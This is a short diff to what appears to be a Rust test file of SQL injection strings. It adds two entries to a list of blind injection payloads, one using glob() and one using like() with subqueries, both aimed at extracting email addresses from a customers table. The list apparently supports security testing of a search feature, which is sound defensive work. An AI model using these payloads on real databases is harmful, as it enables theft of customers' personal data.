@@ -31,7 +31,9 @@ const INJECTIONS: [&str; 13] = [
 ];
 
 /// Learn one bit each: they list goods although no goods hold the words.
-const BLIND: [&str; 12] = [
+const BLIND: [&str; 14] = [
+    "zzz%' or glob('*',(select c.email from customers c))--",
+    "zzz%' or like('%',(select email||''from customers))--",
     "zzz%' or slug notnull and(select[email]from[customers]limit 1)>'a'--",
     "zzz%' or slug notnull--",
     "zzz%' or name is not 'x' or name='",
